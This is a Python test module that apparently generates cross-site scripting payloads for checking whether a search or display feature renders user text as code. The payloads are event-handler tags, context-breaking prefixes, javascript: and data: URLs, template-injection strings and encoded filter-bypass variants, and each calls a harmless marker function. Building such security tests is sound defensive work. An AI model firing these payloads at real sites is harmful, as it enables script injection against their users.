"""Texts that try to become code where they are shown. Each calls ``kena()`` if it succeeds."""

from __future__ import annotations

from itertools import product

_CALL = "kena()"
_HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "onanimationstart", "onpointerenter", "onmouseover")
_SELF_FIRING = (
    "<img src=x onerror={0}>",
    "<img src=x:x onerror={0}//",
    "<img/src='x'/onerror='{0}'>",
    "<IMG SRC=x OnErRoR={0}>",
    "<img src=x\nonerror\n=\n{0}>",
    "<img src=x onerror&#61;{0}>",
    "<image src=x onerror={0}>",
    "<svg onload={0}>",
    "<svg/onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<svg><set onbegin={0} attributename=x>",
    "<body onload={0}>",
    "<body onpageshow={0}>",
    "<iframe onload={0}></iframe>",
    "<iframe srcdoc='<script>parent.{0}</script>'></iframe>",
    "<iframe src=javascript:parent.{0}></iframe>",
    "<object data=javascript:{0}></object>",
    "<embed src=javascript:{0}>",
    "<video src=x onerror={0}></video>",
    "<video><source onerror={0}></video>",
    "<audio src=x onerror={0}></audio>",
    "<input autofocus onfocus={0}>",
    "<select autofocus onfocus={0}></select>",
    "<textarea autofocus onfocus={0}></textarea>",
    "<details open ontoggle={0}><summary>x</summary></details>",
    "<marquee onstart={0}>x</marquee>",
    "<style onload={0}></style>",
    "<link rel=stylesheet href=data:, onload={0}>",
    "<script>{0}</script>",
    "<SCRIPT>{0}</SCRIPT>",
    "<script >{0}</script >",
    "<script\x0b>{0}</script>",
    "<script/x>{0}</script>",
    "<script src=data:text/javascript,{0}></script>",
    "<script type=module>{0}</script>",
    "<scr<script>ipt>{0}</scr</script>ipt>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<math><maction xlink:href=javascript:{0}>x</maction></math>",
    "<base href=javascript:{0}//>",
    "<a autofocus tabindex=1 onfocus={0}>x</a>",
    "<div style='animation:arrive 1s' onanimationstart={0}>x</div>",
    "<tanya-pasal full onfocus={0} tabindex=0 autofocus></tanya-pasal>",
    "<form id=log><input name=append></form><img src=x onerror={0}>",
    "<a id=TanyaPasal href=javascript:{0}>x</a>",
)
_SHORT = (0, 8, 25, 29)  # one of each: an image, a drawing, an element that opens, a script
_LEAVING = (
    "",
    '">',
    "'>",
    "`>",
    "-->",
    "]]>",
    "</textarea>",
    "</title>",
    "</style>",
    "</script>",
    "</blockquote></details></article>",
    "</code></pre>",
    "<!--",
    "<![CDATA[",
    "<noscript><p title='</noscript>",
    "<svg><style>",
    "<math><mtext><table><mglyph><style><!--</style>",
)
_SCHEMES = (
    "javascript:{0}",
    "JaVaScRiPt:{0}",
    "java\tscript:{0}",
    "java\nscript:{0}",
    " javascript:{0}",
    "\x01javascript:{0}",
    "javascript&colon;{0}",
    "&#106;avascript:{0}",
    "javascript:%0a{0}",
    "javascript://x.go.id/%0a{0}",
    "data:text/html,<script>{0}</script>",
    "data:text/html;base64,PHNjcmlwdD5rZW5hKCk8L3NjcmlwdD4=",
    "vbscript:{0}",
    "blob:{0}",
    'https://x.go.id/"onmouseover="{0}',
    "https://x.go.id/'onmouseover='{0}",
    "https://x.go.id/ onmouseover={0}",
    'https://x.go.id/"><img src=x onerror={0}>',
    "https://x.go.id/`onmouseover=`{0}",
    "https://javascript:{0}@x.go.id/",
    "//x.go.id/<svg onload={0}>",
)
_SCRIPT_CONTEXTS = (
    "';{0};//",
    '";{0};//',
    "`;{0};//",
    "${{{0}}}",
    "\\';{0};//",
    '\\";{0};//',
    "</script><script>{0}</script>",
    "\u2028{0}\u2028//",
    "\u2029{0}//",
    '{{"__proto__": {{"innerHTML": "<img src=x onerror={0}>"}}}}',
    "{{{{{0}}}}}",
    "{{{{ self.__init__.__globals__ }}}}<img src=x onerror={0}>",
    "{{% raw %}}<img src=x onerror={0}>{{% endraw %}}",
    "#{{{0}}}",
    "<%= {0} %>",
    "[[{0}]]",
    "{{{{constructor.constructor('{0}')()}}}}",
)


def _encoded(plain: str) -> tuple[str, ...]:
    """The same in disguises that a later decoding would take off."""
    return (
        plain.replace("<", "&lt;").replace(">", "&gt;"),
        plain.replace("<", "&#60;").replace(">", "&#x3e;"),
        plain.replace("<", "%3C").replace(">", "%3E"),
        plain.replace("<", "%253C").replace(">", "%253E"),
        plain.replace("<", "\\u003c").replace(">", "\\u003e"),
        plain.replace("<", "\\x3c").replace(">", "\\x3e"),
        plain.replace("<", "＜").replace(">", "＞"),
        plain.replace("<", "<\u200b"),
        plain.replace("<", "\u202e<"),
        "\ufeff" + plain,
        plain.replace(" ", "\x0c"),
        plain.replace(" ", "/"),
    )


def payloads() -> tuple[str, ...]:
    """All of them, each once, in a stable order; every one has a word that finds something in a corpus."""
    made = [pattern.format(_CALL) for pattern in _SELF_FIRING]
    made += [
        f"{leaving}{pattern.format(_CALL)}"
        for leaving, pattern in product(_LEAVING[1:], (_SELF_FIRING[n] for n in _SHORT))
    ]
    made += [
        f"x{quote} {handler}={quote}{_CALL}{quote} autofocus tabindex=1 x={quote}"
        for quote, handler in product(('"', "'", "`", ""), _HANDLERS)
    ]
    made += [pattern.format(_CALL) for pattern in (*_SCHEMES, *_SCRIPT_CONTEXTS)]
    made += [form for pattern in _SHORT for form in _encoded(_SELF_FIRING[pattern].format(_CALL))]
    return tuple(dict.fromkeys(made))
